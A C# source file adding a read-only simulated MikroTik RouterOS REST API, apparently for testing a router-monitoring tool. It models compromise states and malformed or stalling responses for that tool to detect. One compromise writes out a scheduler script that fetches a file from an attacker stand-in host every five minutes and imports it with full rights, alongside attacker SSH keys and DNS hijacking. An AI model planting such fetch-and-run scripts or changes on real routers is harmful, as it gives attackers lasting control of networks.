@@ -1,0 +1,617 @@
+using System.Globalization;
+using System.Net;
+using System.Security.Cryptography;
+using System.Text;
+using System.Text.Encodings.Web;
+using System.Text.Json;
+using Microsoft.AspNetCore.Builder;
+using Microsoft.AspNetCore.Hosting;
+using Microsoft.AspNetCore.Hosting.Server;
+using Microsoft.AspNetCore.Hosting.Server.Features;
+using Microsoft.AspNetCore.Http;
+using Microsoft.Extensions.DependencyInjection;
+using Microsoft.Extensions.Logging;
+using Row = FlaxGuard.Lab.Twins.RouterOs.RouterOsTwinState.Row;
+
+namespace FlaxGuard.Lab.Twins.RouterOs;
+
+/// <summary>
+/// A MikroTik router running RouterOS 7 (an RB5009 on 7.20.8 long-term), reached over the REST API of its www
+/// service, as strict as the real one where the probe can tell: HTTP Basic only (401 with a Basic challenge and
+/// RouterOS's JSON error body), the www service's "address" list enforced (a client outside it has its connection
+/// dropped, as RouterOS does), JSON answers labelled application/json with every value a string and members in
+/// RouterOS's alphabetical order, ".id" values that renumber on reboot and reorder, GET of a missing item 404
+/// {"error":404,"message":"Not Found"}, an unknown menu 400 "no such command or directory", ".proplist" and
+/// equality filters in the query string. The twin is read-only: other methods get 400. The login user given to
+/// <see cref="StartAsync"/> is the built-in "admin" (group full) when so named, else a read-only account next to it.
+/// <para>Compromises: every one in <see cref="TwinChanges.Compromises"/>. wan-admin clears the address lists of
+/// www, ssh and winbox (RouterOS has no "remote management" switch: a service open to any address is how a
+/// router's admin interface ends up on the internet). Churn: reboot, counters, time, dhcp-leases, reorder,
+/// whitespace-case. "session" is not supported: REST over Basic has no session to renew.</para>
+/// </summary>
+public sealed class RouterOsTwin : ILabTwin
+{
+    public const string Realm = "RouterOS";
+
+    private static readonly JsonWriterOptions WriterOptions = new() { Encoder = JavaScriptEncoder.UnsafeRelaxedJsonEscaping };
+
+    private readonly WebApplication _app;
+    private readonly object _gate = new();
+    private RouterOsTwinState? _state;
+    private readonly string _user;
+    private readonly string _password;
+    private int _requests;
+
+    private RouterOsTwin(WebApplication app, string user, string password)
+    {
+        _app = app;
+        _user = user;
+        _password = password;
+    }
+
+    public string Profile => "routeros";
+
+    public Uri BaseUri { get; private set; } = null!;
+
+    public IPAddress Address { get; private set; } = IPAddress.None;
+
+    public int Port { get; private set; }
+
+    public IReadOnlyList<string> SupportedChanges { get; } =
+        [.. TwinChanges.Compromises, TwinChanges.Reboot, TwinChanges.Counters, TwinChanges.Time, TwinChanges.DhcpLeases, TwinChanges.Reorder, TwinChanges.WhitespaceCase];
+
+    /// <summary>How the next REST answers misbehave; <see cref="RouterOsHostility.None"/> for a well-behaved router.</summary>
+    public RouterOsHostility Hostility { get; set; }
+
+    /// <summary>The menu (e.g. "/ip/service") that misbehaves; null for every menu.</summary>
+    public string? HostileMenu { get; set; }
+
+    /// <summary>HTTP requests answered (any status).</summary>
+    public int Requests => Volatile.Read(ref _requests);
+
+    public static async Task<RouterOsTwin> StartAsync(IPAddress address, int port, string user, string password, CancellationToken ct)
+    {
+        ArgumentNullException.ThrowIfNull(address);
+        if (string.IsNullOrEmpty(user) || user.Contains(':')) throw new ArgumentException("the user name must be non-empty without ':'", nameof(user));
+        ArgumentNullException.ThrowIfNull(password);
+        var builder = WebApplication.CreateSlimBuilder();
+        builder.Logging.ClearProviders();
+        builder.WebHost.ConfigureKestrel(kestrel =>
+        {
+            kestrel.AddServerHeader = false;
+            kestrel.Listen(address, port);
+        });
+        var app = builder.Build();
+        var twin = new RouterOsTwin(app, user, password);
+        app.Run(twin.HandleAsync);
+        await app.StartAsync(ct);
+        var url = new Uri(app.Services.GetRequiredService<IServer>().Features.Get<IServerAddressesFeature>()!.Addresses.First());
+        twin.Address = address;
+        twin.Port = url.Port;
+        twin.BaseUri = new Uri($"http://{(address.AddressFamily == System.Net.Sockets.AddressFamily.InterNetworkV6 ? $"[{address}]" : address.ToString())}:{url.Port}/");
+        lock (twin._gate) twin._state = new RouterOsTwinState(url.Port, user, password);
+        return twin;
+    }
+
+    public void Reset()
+    {
+        lock (_gate)
+        {
+            State.Reset();
+            Hostility = RouterOsHostility.None;
+            HostileMenu = null;
+        }
+    }
+
+    public void Apply(string change)
+    {
+        lock (_gate)
+        {
+            var s = State;
+            switch (change)
+            {
+                case TwinChanges.NewAdmin:
+                    s.Users.Add(new Row(NextSerial(s.Users), ("name", "support"), ("group", "full"), ("address", ""), ("disabled", "false"), ("expired", "false"), ("comment", "")));
+                    s.Passwords["support"] = "lab-support-pw";
+                    break;
+                case TwinChanges.SshKeyAdded:
+                    s.SshKeys.Add(RouterOsTwinState.SshKeyRow(NextSerial(s.SshKeys), s.AdminUser, "rsa", "2048", RouterOsTwinState.RsaBlob(7), "root@" + RouterOsTwinState.AttackerHost));
+                    break;
+                case TwinChanges.DnsChanged:
+                    s.Dns["servers"] = RouterOsTwinState.AttackerHost;
+                    break;
+                case TwinChanges.WanAdmin:
+                    foreach (var service in s.Services.Where(r => r["name"] is "www" or "ssh" or "winbox")) service["address"] = "";
+                    break;
+                case TwinChanges.TelnetEnabled:
+                    var telnet = s.Services.Single(r => r["name"] == "telnet");
+                    telnet["disabled"] = "false";
+                    telnet["address"] = "";
+                    break;
+                case TwinChanges.PortForward:
+                    s.Nat.Add(new Row(NextSerial(s.Nat), ("chain", "dstnat"), ("action", "dst-nat"), ("protocol", "tcp"), ("dst-port", "2323"), ("in-interface", "ether1"),
+                        ("to-addresses", "100.64.88.7"), ("to-ports", "23"), ("disabled", "false"), ("dynamic", "false"), ("invalid", "false"), ("log", "false"), ("log-prefix", ""), ("comment", "")));
+                    break;
+                case TwinChanges.SchedulerFetch:
+                    s.Scripts.Add(new Row(NextSerial(s.Scripts), ("name", "sys-update"), ("owner", s.AdminUser), ("policy", "ftp,reboot,read,write,policy,test,password,sniff,sensitive,romon"),
+                        ("dont-require-permissions", "true"), ("source", $":do {{ /tool fetch url=\"http://{RouterOsTwinState.AttackerHost}/u.rsc\" dst-path=u.rsc; /import u.rsc }} on-error={{}}"),
+                        ("invalid", "false"), ("comment", "")));
+                    s.Schedulers.Add(new Row(NextSerial(s.Schedulers), ("name", "sys-update"), ("start-date", "2026-01-01"), ("start-time", "startup"), ("interval", "00:05:00"),
+                        ("on-event", "/system script run sys-update"), ("owner", s.AdminUser), ("policy", "ftp,reboot,read,write,policy,test,password,sniff,sensitive,romon"), ("disabled", "false"), ("comment", "")));
+                    break;
+                case TwinChanges.SocksProxy:
+                    s.Socks["enabled"] = "true";
+                    s.Socks["port"] = "4153";
+                    s.Socks["version"] = "5";
+                    break;
+                case TwinChanges.FirmwareDowngrade:
+                    s.Version = "7.19.6 (stable)";
+                    s.BuildTime = "2025-09-17 08:13:33";
+                    break;
+                case TwinChanges.FirmwareUnknown:
+                    // Same version string, a build MikroTik never published.
+                    s.BuildTime = "2026-02-29 23:59:59";
+                    break;
+                case TwinChanges.Reboot:
+                    s.Boot = s.Now - TimeSpan.FromSeconds(47) - s.ClockOffset;
+                    s.CounterBase = 3;
+                    Renumber(s);
+                    break;
+                case TwinChanges.Counters:
+                    s.CounterBase = s.CounterBase * 7 + 123_457;
+                    break;
+                case TwinChanges.Time:
+                    s.ClockOffset += TimeSpan.FromHours(5) + TimeSpan.FromMinutes(17);
+                    break;
+                case TwinChanges.DhcpLeases:
+                    s.Leases.RemoveAt(0);
+                    s.Leases.Add(RouterOsTwinState.LeaseRow(NextSerial(s.Leases), "100.64.88." + (60 + s.Leases.Count), "AA:BB:CC:00:01:0" + s.Leases.Count, "tablet"));
+                    // A renewed WAN lease can bring the provider's other resolver.
+                    s.Dns["dynamic-servers"] = s.Dns["dynamic-servers"] == "198.51.100.1" ? "198.51.100.2" : "198.51.100.1";
+                    break;
+                case TwinChanges.Reorder:
+                    foreach (var list in Lists(s)) list.Reverse();
+                    Renumber(s);
+                    break;
+                case TwinChanges.WhitespaceCase:
+                    s.Sloppy = true;
+                    break;
+                case TwinChanges.Session:
+                    throw new NotSupportedException("RouterOS REST authenticates every request with HTTP Basic; there is no session to renew or expire.");
+                default:
+                    throw new NotSupportedException($"the RouterOS twin has no change named '{change}'");
+            }
+            s.Generation++;
+        }
+    }
+
+    /// <summary>Sets a service's "address" list as /ip/service set would (lab use: prove the twin drops clients outside it).</summary>
+    public void SetServiceAddress(string service, string addresses)
+    {
+        lock (_gate)
+        {
+            State.Services.Single(r => r["name"] == service)["address"] = addresses;
+            State.Generation++;
+        }
+    }
+
+    private RouterOsTwinState State => _state ?? throw new InvalidOperationException("the twin has not started");
+
+    private static int NextSerial(List<Row> rows) => rows.Count == 0 ? 1 : rows.Max(r => r.Serial) + 1;
+
+    private static IEnumerable<List<Row>> Lists(RouterOsTwinState s) => [s.Packages, s.Users, s.SshKeys, s.Services, s.Nat, s.Scripts, s.Schedulers, s.Leases];
+
+    /// <summary>RouterOS hands out new internal ids after a reboot or a move: same items, other ".id" values.</summary>
+    private static void Renumber(RouterOsTwinState s)
+    {
+        s.IdShift += 0x10;
+        foreach (var list in Lists(s))
+            for (var i = 0; i < list.Count; i++) list[i].Serial = i + 1;
+    }
+
+    private async Task HandleAsync(HttpContext context)
+    {
+        Interlocked.Increment(ref _requests);
+        RouterOsHostility hostility;
+        string? hostileMenu;
+        lock (_gate)
+        {
+            if (_state is null || !WwwAllows(_state, context.Connection.RemoteIpAddress))
+            {
+                // RouterOS drops connections the www service does not allow, without a word.
+                context.Abort();
+                return;
+            }
+            hostility = Hostility;
+            hostileMenu = HostileMenu;
+        }
+
+        var path = context.Request.Path.Value ?? "/";
+        if (path != "/rest" && !path.StartsWith("/rest/", StringComparison.Ordinal))
+        {
+            context.Response.StatusCode = path == "/" ? 200 : 404;
+            context.Response.ContentType = "text/html";
+            await context.Response.WriteAsync(path == "/" ? "<html><head><title>RouterOS router configuration page</title></head><body>WebFig</body></html>" : "<html><body>Not Found</body></html>");
+            return;
+        }
+        if (!Authorized(context.Request.Headers.Authorization.ToString()))
+        {
+            context.Response.Headers.WWWAuthenticate = $"Basic realm=\"{Realm}\"";
+            await WriteError(context, 401, "Unauthorized", null);
+            return;
+        }
+        if (!HttpMethods.IsGet(context.Request.Method))
+        {
+            await WriteError(context, 400, "Bad Request", "the lab twin is read-only");
+            return;
+        }
+        var menu = path.Length > 5 ? path[5..].TrimEnd('/') : "";
+        if (hostility != RouterOsHostility.None && (hostileMenu is null || hostileMenu == menu))
+        {
+            await Hostile(context, hostility, menu);
+            return;
+        }
+
+        object? answer;
+        lock (_gate) answer = Render(State, menu, context.Request.Query);
+        switch (answer)
+        {
+            case null:
+                var last = menu.Length == 0 ? "rest" : menu[(menu.LastIndexOf('/') + 1)..];
+                await WriteError(context, 400, "Bad Request", $"no such command or directory ({last})");
+                return;
+            case NotFound:
+                await WriteError(context, 404, "Not Found", null);
+                return;
+            default:
+                await WriteJson(context, 200, Serialize(answer), "application/json");
+                return;
+        }
+    }
+
+    private sealed class NotFound;
+
+    private bool Authorized(string header)
+    {
+        if (!header.StartsWith("Basic ", StringComparison.OrdinalIgnoreCase)) return false;
+        byte[] raw;
+        try
+        {
+            raw = Convert.FromBase64String(header[6..].Trim());
+        }
+        catch (FormatException)
+        {
+            return false;
+        }
+        string text;
+        try
+        {
+            text = new UTF8Encoding(false, true).GetString(raw);
+        }
+        catch (DecoderFallbackException)
+        {
+            return false;
+        }
+        var colon = text.IndexOf(':');
+        if (colon <= 0) return false;
+        var user = text[..colon];
+        var password = text[(colon + 1)..];
+        lock (_gate)
+        {
+            var row = State.Users.FirstOrDefault(u => u["name"] == user);
+            if (row is null || row["disabled"] == "true" || !State.Passwords.TryGetValue(user, out var expected)) return false;
+            return CryptographicOperations.FixedTimeEquals(Encoding.UTF8.GetBytes(password), Encoding.UTF8.GetBytes(expected));
+        }
+    }
+
+    private static bool WwwAllows(RouterOsTwinState s, IPAddress? remote)
+    {
+        var www = s.Services.FirstOrDefault(r => r["name"] == "www");
+        if (www is null || www["disabled"] == "true") return false;
+        var entries = www["address"].Split(',', StringSplitOptions.TrimEntries | StringSplitOptions.RemoveEmptyEntries);
+        if (entries.Length == 0) return true;
+        if (remote is null) return false;
+        if (remote.IsIPv4MappedToIPv6) remote = remote.MapToIPv4();
+        foreach (var entry in entries)
+        {
+            var text = entry.Contains('/') ? entry : entry + (entry.Contains(':') ? "/128" : "/32");
+            if (IPNetwork.TryParse(text, out var network) && network.Contains(remote)) return true;
+        }
+        return false;
+    }
+
+    /// <summary>The menu as RouterOS prints it: a list, one settings object, <see cref="NotFound"/>, or null for no such menu.</summary>
+    private static object? Render(RouterOsTwinState s, string menu, IQueryCollection query)
+    {
+        menu = menu.TrimStart('/');
+        var now = s.Now;
+        var uptime = now - s.ClockOffset - s.Boot;
+        var counter = s.CounterBase + (long)uptime.TotalSeconds;
+        List<SortedDictionary<string, string>>? rows = null;
+        SortedDictionary<string, string>? settings = null;
+        string? itemId = null;
+        foreach (var list in new[] { "system/package", "user/ssh-keys", "user", "ip/service", "ip/firewall/nat", "system/script", "system/scheduler", "ip/dhcp-server/lease", "ip/dhcp-client" })
+        {
+            if (menu.StartsWith(list + "/*", StringComparison.Ordinal))
+            {
+                itemId = menu[(list.Length + 1)..];
+                menu = list;
+                break;
+            }
+        }
+
+        switch (menu)
+        {
+            case "system/resource":
+                settings = Fields(
+                    ("architecture-name", "arm64"), ("bad-blocks", "0"), ("board-name", "RB5009UG+S+"), ("build-time", s.BuildTime), ("cpu", "ARM64"), ("cpu-count", "4"),
+                    ("cpu-frequency", "350"), ("cpu-load", (counter % 37).ToString(CultureInfo.InvariantCulture)), ("factory-software", "7.9"),
+                    ("free-hdd-space", (900_000_000 - counter % 65_536 * 4096).ToString(CultureInfo.InvariantCulture)), ("free-memory", (812_000_000 - counter % 9_973 * 4096).ToString(CultureInfo.InvariantCulture)),
+                    ("platform", "MikroTik"), ("total-hdd-space", "1073741824"), ("total-memory", "1073741824"), ("uptime", RouterOsTwinState.Duration(uptime)), ("version", s.Version),
+                    ("write-sect-since-reboot", (counter * 3).ToString(CultureInfo.InvariantCulture)), ("write-sect-total", (8_000_000 + counter * 3).ToString(CultureInfo.InvariantCulture)));
+                break;
+            case "system/routerboard":
+                settings = Fields(("current-firmware", "7.20.8"), ("factory-firmware", "7.9"), ("firmware-type", "70x0"), ("model", "RB5009UG+S+"), ("routerboard", "true"),
+                    ("serial-number", "HG7091A2B3C"), ("upgrade-firmware", "7.20.8"));
+                break;
+            case "system/clock":
+                settings = Fields(("date", now.UtcDateTime.ToString("yyyy-MM-dd", CultureInfo.InvariantCulture)), ("dst-active", "false"), ("gmt-offset", "+00:00"),
+                    ("time", now.UtcDateTime.ToString("HH:mm:ss", CultureInfo.InvariantCulture)), ("time-zone-autodetect", "true"), ("time-zone-name", "Etc/UTC"));
+                break;
+            case "system/identity":
+                settings = Fields(("name", "lab-rb5009"));
+                break;
+            case "system/package":
+                rows = Rows(s, s.Packages, r => { r["version"] = s.ShortVersion; r["build-time"] = s.BuildTime; });
+                break;
+            case "user":
+                rows = Rows(s, s.Users, r => r["last-logged-in"] = r["disabled"] == "true" ? "" : RouterOsTwinState.Stamp(now - TimeSpan.FromMinutes(3)));
+                break;
+            case "user/ssh-keys":
+                rows = Rows(s, s.SshKeys, null);
+                break;
+            case "ip/service":
+                rows = Rows(s, s.Services, null);
+                break;
+            case "ip/dns":
+                settings = new SortedDictionary<string, string>(s.Dns, StringComparer.Ordinal) { ["cache-used"] = (counter % 2000).ToString(CultureInfo.InvariantCulture) };
+                break;
+            case "ip/firewall/nat":
+                rows = Rows(s, s.Nat, r =>
+                {
+                    r["bytes"] = (counter * 1_337 * r.Count).ToString(CultureInfo.InvariantCulture);
+                    r["packets"] = (counter * 11 * r.Count).ToString(CultureInfo.InvariantCulture);
+                });
+                break;
+            case "system/script":
+                rows = Rows(s, s.Scripts, r =>
+                {
+                    r["run-count"] = (counter / 100).ToString(CultureInfo.InvariantCulture);
+                    r["last-started"] = RouterOsTwinState.Stamp(now - TimeSpan.FromHours(2));
+                });
+                break;
+            case "system/scheduler":
+                rows = Rows(s, s.Schedulers, r =>
+                {
+                    r["run-count"] = (counter / 100).ToString(CultureInfo.InvariantCulture);
+                    r["next-run"] = RouterOsTwinState.Stamp(now + TimeSpan.FromHours(7));
+                });
+                break;
+            case "ip/socks":
+                settings = new SortedDictionary<string, string>(s.Socks, StringComparer.Ordinal);
+                break;
+            case "ip/proxy":
+                settings = new SortedDictionary<string, string>(s.Proxy, StringComparer.Ordinal);
+                break;
+            case "ip/dhcp-server/lease":
+                rows = Rows(s, s.Leases, r =>
+                {
+                    r["expires-after"] = RouterOsTwinState.Duration(TimeSpan.FromMinutes(10) - TimeSpan.FromSeconds(counter % 600));
+                    r["last-seen"] = RouterOsTwinState.Duration(TimeSpan.FromSeconds(counter % 90));
+                });
+                break;
+            case "ip/dhcp-client":
+                rows =
+                [
+                    Fields((".id", "*" + (1 + s.IdShift).ToString("X", CultureInfo.InvariantCulture)), ("add-default-route", "yes"), ("address", "198.51.100.77/24"), ("dhcp-server", "198.51.100.1"),
+                        ("disabled", "false"), ("dynamic", "false"), ("expires-after", RouterOsTwinState.Duration(TimeSpan.FromMinutes(30) - TimeSpan.FromSeconds(counter % 1800))),
+                        ("gateway", "198.51.100.1"), ("interface", "ether1"), ("primary-dns", s.Dns["dynamic-servers"]), ("status", "bound"), ("use-peer-dns", "yes"), ("use-peer-ntp", "yes")),
+                ];
+                break;
+            default:
+                return null;
+        }
+
+        if (rows is not null)
+        {
+            if (itemId is not null)
+            {
+                var item = rows.FirstOrDefault(r => r[".id"] == itemId);
+                if (item is null) return new NotFound();
+                settings = item;
+                rows = null;
+            }
+            else
+            {
+                foreach (var (key, values) in query)
+                {
+                    if (key.StartsWith('.')) continue;
+                    rows = rows.Where(r => r.TryGetValue(key, out var v) && v == values.ToString()).ToList();
+                }
+            }
+        }
+        var proplist = query[".proplist"].ToString();
+        if (proplist.Length > 0)
+        {
+            var keep = proplist.Split(',', StringSplitOptions.TrimEntries | StringSplitOptions.RemoveEmptyEntries).ToHashSet(StringComparer.Ordinal);
+            static SortedDictionary<string, string> Only(SortedDictionary<string, string> d, HashSet<string> keep) =>
+                new(d.Where(p => keep.Contains(p.Key)).ToDictionary(p => p.Key, p => p.Value), StringComparer.Ordinal);
+            if (rows is not null) rows = rows.Select(r => Only(r, keep)).ToList();
+            if (settings is not null) settings = Only(settings, keep);
+        }
+        if (s.Sloppy)
+        {
+            if (rows is not null) foreach (var r in rows) Sloppify(r);
+            if (settings is not null) Sloppify(settings);
+        }
+        return (object?)rows ?? settings;
+    }
+
+    private static SortedDictionary<string, string> Fields(params (string Key, string Value)[] fields) =>
+        new(fields.ToDictionary(f => f.Key, f => f.Value), StringComparer.Ordinal);
+
+    private static List<SortedDictionary<string, string>> Rows(RouterOsTwinState s, List<Row> rows, Action<SortedDictionary<string, string>>? dynamic)
+    {
+        var result = new List<SortedDictionary<string, string>>();
+        foreach (var row in rows)
+        {
+            var copy = new SortedDictionary<string, string>(row.Fields, StringComparer.Ordinal) { [".id"] = s.Id(row) };
+            dynamic?.Invoke(copy);
+            result.Add(copy);
+        }
+        return result;
+    }
+
+    /// <summary>Same settings, presented differently where RouterOS does not care: yes/no, spaced and upper-cased lists, CRLF scripts.</summary>
+    private static void Sloppify(SortedDictionary<string, string> r)
+    {
+        foreach (var key in r.Keys.ToList())
+        {
+            var v = r[key];
+            if (v == "true") r[key] = "yes";
+            else if (v == "false") r[key] = "no";
+            else if (key is "address" or "servers" or "dynamic-servers" && v.Length > 0) r[key] = " " + string.Join(" , ", v.Split(',')).ToUpperInvariant() + " ";
+            else if (key is "key-type" or "protocol" or "auth-method") r[key] = v.ToUpperInvariant();
+            else if (key is "source" or "on-event") r[key] = "  " + v.Replace("\n", "  \r\n\t", StringComparison.Ordinal) + " \r\n";
+            else if (key is "port" or "to-addresses" or "to-ports" or "dst-port") r[key] = " " + v + " ";
+        }
+    }
+
+    private static byte[] Serialize(object answer)
+    {
+        using var buffer = new MemoryStream();
+        using (var writer = new Utf8JsonWriter(buffer, WriterOptions))
+        {
+            if (answer is List<SortedDictionary<string, string>> rows)
+            {
+                writer.WriteStartArray();
+                foreach (var row in rows) WriteObject(writer, row);
+                writer.WriteEndArray();
+            }
+            else
+            {
+                WriteObject(writer, (SortedDictionary<string, string>)answer);
+            }
+        }
+        return buffer.ToArray();
+    }
+
+    private static void WriteObject(Utf8JsonWriter writer, SortedDictionary<string, string> fields)
+    {
+        writer.WriteStartObject();
+        foreach (var (key, value) in fields) writer.WriteString(key, value);
+        writer.WriteEndObject();
+    }
+
+    private static Task WriteError(HttpContext context, int status, string message, string? detail)
+    {
+        // RouterOS's error body: {"detail":...,"error":N,"message":...}, members in alphabetical order, detail only when there is one.
+        using var buffer = new MemoryStream();
+        using (var writer = new Utf8JsonWriter(buffer, WriterOptions))
+        {
+            writer.WriteStartObject();
+            if (detail is not null) writer.WriteString("detail", detail);
+            writer.WriteNumber("error", status);
+            writer.WriteString("message", message);
+            writer.WriteEndObject();
+        }
+        return WriteJson(context, status, buffer.ToArray(), "application/json");
+    }
+
+    private static async Task WriteJson(HttpContext context, int status, byte[] body, string contentType)
+    {
+        context.Response.StatusCode = status;
+        context.Response.ContentType = contentType;
+        context.Response.ContentLength = body.Length;
+        await context.Response.Body.WriteAsync(body, context.RequestAborted);
+    }
+
+    private async Task Hostile(HttpContext context, RouterOsHostility hostility, string menu)
+    {
+        object? answer;
+        lock (_gate) answer = Render(State, menu, context.Request.Query);
+        answer ??= new List<SortedDictionary<string, string>>();
+        var isList = answer is List<SortedDictionary<string, string>>;
+        var body = answer is NotFound ? "[]"u8.ToArray() : Serialize(answer);
+        switch (hostility)
+        {
+            case RouterOsHostility.TruncatedJson:
+                await WriteJson(context, 200, body[..(body.Length / 2)], "application/json");
+                break;
+            case RouterOsHostility.OversizedBody:
+                var filler = new string('x', 900);
+                var big = Enumerable.Range(1, 300).Select(i => Fields((".id", "*" + i.ToString("X", CultureInfo.InvariantCulture)), ("comment", filler), ("name", "item" + i))).ToList();
+                await WriteJson(context, 200, Serialize(big), "application/json");
+                break;
+            case RouterOsHostility.WrongTypes:
+                var text = Encoding.UTF8.GetString(body);
+                text = System.Text.RegularExpressions.Regex.Replace(text, "\"(\\d+|true|false)\"(?=[,}])", "$1");
+                await WriteJson(context, 200, Encoding.UTF8.GetBytes(text), "application/json");
+                break;
+            case RouterOsHostility.NestedValue:
+                var nested = isList ? "[{\".id\":\"*1\",\"name\":{\"first\":{\"second\":\"x\"}}}]" : "{\"enabled\":{\"value\":\"false\"},\"version\":\"7.20.8 (long-term)\"}";
+                await WriteJson(context, 200, Encoding.UTF8.GetBytes(nested), "application/json");
+                break;
+            case RouterOsHostility.DeeplyNested:
+                await WriteJson(context, 200, Encoding.ASCII.GetBytes(new string('[', 30_000) + new string(']', 30_000)), "application/json");
+                break;
+            case RouterOsHostility.NotJson:
+                await WriteJson(context, 200, "<html><head><title>Login</title></head><body>captive portal</body></html>"u8.ToArray(), "text/html");
+                break;
+            case RouterOsHostility.WrongContentType:
+                await WriteJson(context, 200, body, "text/plain");
+                break;
+            case RouterOsHostility.NoSuchMenu:
+                await WriteError(context, 400, "Bad Request", $"no such command or directory ({menu[(menu.LastIndexOf('/') + 1)..]})");
+                break;
+            case RouterOsHostility.ServerError:
+                await WriteError(context, 500, "Internal Server Error", "std failure: timeout (13)");
+                break;
+            case RouterOsHostility.InvalidUtf8:
+                byte[] bad = [.. "[{\".id\":\"*1\",\"name\":\"bad"u8, 0xC3, 0x28, .. "\"}]"u8];
+                if (!isList) bad = [.. "{\"version\":\"7."u8, 0xC3, 0x28, .. "\"}"u8];
+                await WriteJson(context, 200, bad, "application/json");
+                break;
+            case RouterOsHostility.DuplicateMember:
+                var duplicate = isList ? "[{\".id\":\"*1\",\"name\":\"admin\",\"name\":\"other\",\"group\":\"full\"}]" : "{\"version\":\"7.20.8 (long-term)\",\"version\":\"6.0 (stable)\"}";
+                await WriteJson(context, 200, Encoding.UTF8.GetBytes(duplicate), "application/json");
+                break;
+            case RouterOsHostility.WrongShape:
+                var shape = isList ? "{\".id\":\"*1\",\"name\":\"admin\"}" : "[{\"version\":\"7.20.8 (long-term)\"},{\"version\":\"7.19.6 (stable)\"}]";
+                await WriteJson(context, 200, Encoding.UTF8.GetBytes(shape), "application/json");
+                break;
+            case RouterOsHostility.Stall:
+                context.Response.StatusCode = 200;
+                context.Response.ContentType = "application/json";
+                context.Response.ContentLength = body.Length;
+                try
+                {
+                    await context.Response.Body.WriteAsync(body.AsMemory(0, Math.Min(16, body.Length - 1)), context.RequestAborted);
+                    await context.Response.Body.FlushAsync(context.RequestAborted);
+                    await Task.Delay(TimeSpan.FromSeconds(30), context.RequestAborted);
+                }
+                catch (OperationCanceledException)
+                {
+                    // The client gave up, as it must.
+                }
+                context.Abort();
+                break;
+        }
+    }
+
+    public async ValueTask DisposeAsync()
+    {
+        await _app.StopAsync();
+        await _app.DisposeAsync();
+    }
+}
